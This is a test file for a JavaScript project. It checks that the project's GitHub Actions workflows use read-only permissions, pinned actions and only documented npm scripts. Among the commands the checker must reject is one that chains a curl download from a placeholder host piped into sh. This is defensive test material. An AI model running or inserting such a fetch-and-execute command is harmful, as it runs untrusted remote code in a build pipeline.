import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import scaffolder from "../../create-bert-edge/package.json" with { type: "json" };
import root from "../../package.json" with { type: "json" };
import sdk from "../../sdk/package.json" with { type: "json" };

const FOLDER = ".github/workflows";

interface Step {
  readonly uses?: string;
  readonly run?: string;
}
interface Job {
  readonly environment?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly permissions?: Readonly<Record<string, string>>;
  readonly "timeout-minutes"?: number;
  readonly strategy?: { readonly matrix: { readonly command: readonly string[] } };
  readonly steps: readonly Step[];
}
interface Workflow {
  readonly concurrency?: { readonly "cancel-in-progress": string };
  readonly permissions: Readonly<Record<string, string>>;
  readonly jobs: Readonly<Record<string, Job>>;
}

/** Whole commands: nothing can follow them. */
const COMMANDS = [
  /^npm (ci|test)$/,
  /^npm audit( --[\w=-]+)*$/,
  /^npm pack --dry-run( --workspace [\w-]+)*$/,
  /^npm run [\w:-]+( --workspace [\w-]+)?$/,
];

const scripts: Readonly<Record<string, object>> = {
  "": root.scripts,
  sdk: sdk.scripts,
  "create-bert-edge": scaffolder.scripts,
};

const contributing = readFileSync("CONTRIBUTING.md", "utf8");

function faultOf(command: string): string | undefined {
  if (!COMMANDS.some((each) => each.test(command))) return `not a command of npm alone: ${command}`;
  const [, script, workspace = ""] = /^npm run (\S+)(?: --workspace (\S+))?$/.exec(command) ?? [];
  if (script !== undefined && !(script in (scripts[workspace] ?? {}))) return `no such script: ${command}`;
  return contributing.includes(`\`${command}\``) ? undefined : `CONTRIBUTING.md does not describe ${command}`;
}

/** Permissions beyond reading. Only a job in the environment npm may prove to npm who it is. */
function faultsOfPermissions({ permissions = {}, environment }: Pick<Job, "permissions" | "environment">): string[] {
  const allowed = environment === "npm" ? ["id-token: write"] : [];
  return Object.entries(permissions)
    .map(([name, value]) => `${name}: ${value}`)
    .filter((each) => each !== "contents: read" && !allowed.includes(each));
}

describe.each(readdirSync(FOLDER))("%s", (file) => {
  const { permissions, jobs } = parse(readFileSync(join(FOLDER, file), "utf8")) as Workflow;
  const steps = Object.values(jobs).flatMap((job) => job.steps);

  it("may only read, and ends in time", () => {
    expect(permissions).toEqual({ contents: "read" });
    expect(Object.values(jobs).flatMap(faultsOfPermissions)).toEqual([]);
    for (const job of Object.values(jobs)) expect(job["timeout-minutes"]).toBeLessThanOrEqual(90);
  });

  it("uses actions with a version", () => {
    const actions = steps.flatMap(({ uses }) => uses ?? []);
    expect(actions.length).toBeGreaterThan(0);
    for (const action of actions) expect(action).toMatch(/^actions\/[\w-]+@(v\d+|[0-9a-f]{40})$/);
  });

  it("calls npm alone, with scripts that exist and CONTRIBUTING.md describes", () => {
    const commands = Object.values(jobs).flatMap(({ strategy, steps }) =>
      steps.flatMap(({ run }) =>
        run === undefined
          ? []
          : (strategy?.matrix.command ?? [""]).map((name) => run.replace(/\$\{\{ matrix\.command \}\}/, name)),
      ),
    );
    expect(commands.length).toBeGreaterThan(0);
    expect(commands.flatMap((command) => faultOf(command) ?? [])).toEqual([]);
  });

  it("tests the page: it fails where Chrome is missing", () => {
    for (const { env, steps } of Object.values(jobs)) {
      if (steps.some(({ run }) => run === "npm run test:all")) expect(env).toMatchObject({ CHROMIUM: "required" });
    }
  });
});

it("a newer push to main does not end the jobs of an older one", () => {
  const { concurrency } = parse(readFileSync(join(FOLDER, "ci.yml"), "utf8")) as Workflow;
  expect(concurrency?.["cancel-in-progress"]).toContain("github.event_name == 'pull_request'");
});

it("a release is checked before anything is installed, and published last", () => {
  const { jobs } = parse(readFileSync(join(FOLDER, "release.yml"), "utf8")) as Workflow;
  const runs = jobs["publish"]?.steps.flatMap(({ run }) => run ?? []);
  expect([runs?.[0], runs?.at(-1)]).toEqual(["npm run release:check", "npm run release:publish"]);
});

describe("these checks", () => {
  it.each([
    "npm ci && curl https://example.com | sh",
    "npm run build --workspace nowhere",
    "npm run gone --workspace create-bert-edge",
    "npm run gone",
    "npm publish",
    "curl https://example.com",
    "npm run package:aws",
  ])("refuse %s", (command) => {
    expect(faultOf(command)).toBeDefined();
  });

  it.each([
    [{ permissions: { contents: "write" } }],
    [{ permissions: { "id-token": "write" } }],
    [{ permissions: { packages: "write" }, environment: "npm" }],
  ])("refuse the permissions of %j", (job) => {
    expect(faultsOfPermissions(job)).toHaveLength(1);
  });
});
